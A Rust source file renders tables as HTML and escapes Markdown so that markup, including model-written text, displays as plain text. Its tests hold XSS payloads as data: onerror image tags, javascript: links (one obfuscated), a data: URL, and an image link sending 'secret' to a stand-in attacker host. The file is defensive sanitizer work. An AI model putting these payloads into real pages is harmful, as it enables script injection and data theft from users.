//! Pieces of a page that stand in somebody else's: a table as HTML with its looks in itself, and Markdown in which markup
//! stays text. What a model wrote is data here too.

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

use super::escape::escape;
use crate::display::Table;
use crate::plain::printable;

/// A table. Types stand under the names, numbers are set flush right, a missing value is a dash.
pub fn table(table: &Table) -> String {
    let align = |numeric: bool| if numeric { "right" } else { "left" };
    let heads: String = table
        .columns
        .iter()
        .map(|column| {
            format!(
                "<th style=\"text-align: {}\">{}<br><small style=\"font-weight: normal\">{}</small></th>",
                align(column.numeric),
                escape(&column.name),
                escape(&column.kind)
            )
        })
        .collect();
    let cell = |(text, numeric): (&Option<String>, bool)| match text {
        Some(text) => format!(
            "<td style=\"text-align: {}; white-space: pre-wrap\">{}</td>",
            align(numeric),
            escape(text)
        ),
        None => format!("<td style=\"text-align: {}\">–</td>", align(numeric)),
    };
    let rows: String = table
        .rows
        .iter()
        .map(|row| {
            let numeric = table.columns.iter().map(|column| column.numeric);
            let cells: String = row.iter().zip(numeric).map(cell).collect();
            format!("<tr>{cells}</tr>\n")
        })
        .collect();
    format!(
        "<div style=\"overflow-x: auto\"><table>\n<thead><tr>{heads}</tr></thead>\n<tbody>\n{rows}</tbody>\n</table></div>\n\
         <p><small>{}</small></p>\n",
        escape(&table.caption)
    )
}

/// Markdown for a page that would take markup in it at its word: each piece of it is written so that it shows as it is, and so
/// is a link that would run something and an image that would be fetched from elsewhere.
pub fn markdown(text: &str) -> String {
    let clean = printable(text);
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let mut out = String::with_capacity(clean.len());
    let mut done = 0;
    let mut in_code = false;
    for (event, range) in Parser::new_ext(&clean, options).into_offset_iter() {
        let is_shown = match &event {
            Event::Html(_) | Event::InlineHtml(_) => true,
            Event::Start(Tag::Link { dest_url, .. }) => !is_harmless(dest_url),
            Event::Start(Tag::Image { dest_url, .. }) => {
                dest_url.contains("//") || !is_harmless(dest_url)
            }
            // What is no markup here may be some to a reader that is less strict.
            Event::Text(_) => {
                !in_code && !clean.get(..range.start).unwrap_or_default().ends_with('\\')
            }
            _ => false,
        };
        match event {
            Event::Start(Tag::CodeBlock(_)) => in_code = true,
            Event::End(TagEnd::CodeBlock) => in_code = false,
            _ => {}
        }
        if !is_shown || range.start < done {
            continue;
        }
        out.push_str(clean.get(done..range.start).unwrap_or_default());
        let markup = clean.get(range.clone()).unwrap_or_default();
        out.push_str(&match event {
            Event::Text(_) => without_tags(markup),
            Event::Html(_) | Event::InlineHtml(_) => {
                markup.replace('&', "&amp;").replace('<', "&lt;")
            }
            _ => markup.replace('&', "&amp;").replace('<', "&lt;").replace('[', "\\["),
        });
        done = range.end;
    }
    out.push_str(clean.get(done..).unwrap_or_default());
    out
}

/// Whether a link leads to the web, within the page or beside it.
fn is_harmless(destination: &str) -> bool {
    let scheme = destination.split(['/', '?', '#']).next().unwrap_or_default();
    match scheme.split_once(':') {
        None => true,
        Some((scheme, _)) => matches!(scheme, "http" | "https" | "mailto"),
    }
}

/// Text in which no `<` begins a tag.
fn without_tags(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text.chars().peekable();
    while let Some(character) = rest.next() {
        let begins = |next: &char| next.is_ascii_alphabetic() || "/!?".contains(*next);
        // What follows a piece's last sign stands in the next one.
        if character == '<' && rest.peek().is_none_or(begins) {
            out.push_str("&lt;");
        } else {
            out.push(character);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::display::Column;

    #[test]
    fn markup_in_prose_shows_as_it_is_and_code_stays() {
        let text = "# Title\n\n<script>alert(1)</script>\n\na <b>bold</b> claim, `x < 3 && <i>`\n\n    if a < b {}\n";
        let safe = markdown(text);
        assert!(!safe.contains("<script") && !safe.contains("<b>"), "{safe}");
        assert!(safe.contains("&lt;script>") && safe.contains("&lt;b>bold&lt;/b> claim"), "{safe}");
        assert!(safe.contains("`x < 3 && <i>`") && safe.contains("    if a < b {}"), "{safe}");
        let mut html = String::new();
        pulldown_cmark::html::push_html(&mut html, Parser::new(&safe));
        assert!(!html.contains("<script") && html.contains("&lt;script&gt;"), "{html}");
    }

    #[test]
    fn what_is_almost_markup_shows_as_it_is_too() {
        let shown = |text: &str| {
            let safe = markdown(text);
            // Also where a reader takes the less strict view.
            assert!(!safe.contains("<img") && !safe.contains("<a"), "{safe}");
            let mut html = String::new();
            pulldown_cmark::html::push_html(&mut html, Parser::new(&safe));
            html
        };
        for text in [
            "<img src=x: onerror=alert('xss')>",
            "a <img src=x onerror=alert`1` b",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt&colon;alert(1))",
            "[x][y]\n\n[y]: javascript:alert(1)\n",
            "<javascript:alert(1)>",
            "![x](data:text/html,x)",
            "![x](https://attacker.test/?q=secret)",
            "![x](//attacker.test/)",
        ] {
            let html = shown(text);
            assert!(!html.contains("<img") && !html.contains("href="), "{text}: {html}");
        }
        assert!(
            shown("[x](https://example.test/a:b) and 1 < 2 \\<")
                .contains("href=\"https://example.test")
        );
        assert!(shown("[x](#part) [y](other.md)").contains("other.md"));
    }

    #[test]
    fn a_table_is_a_piece_of_a_page_in_which_text_is_data() {
        let column =
            |name: &str, numeric| Column { name: name.into(), kind: "text".into(), numeric };
        let shown = Table {
            columns: vec![column("<i>", false), column("n", true)],
            rows: vec![vec![Some("</table>".into()), None]],
            caption: "1 row".into(),
            ..Table::default()
        };
        let html = table(&shown);
        assert!(html.contains("&lt;i&gt;") && html.contains("&lt;/table&gt;"), "{html}");
        assert_eq!(html.matches("</table>").count(), 1);
        assert!(html.contains("text-align: right\">–"), "{html}");
    }
}
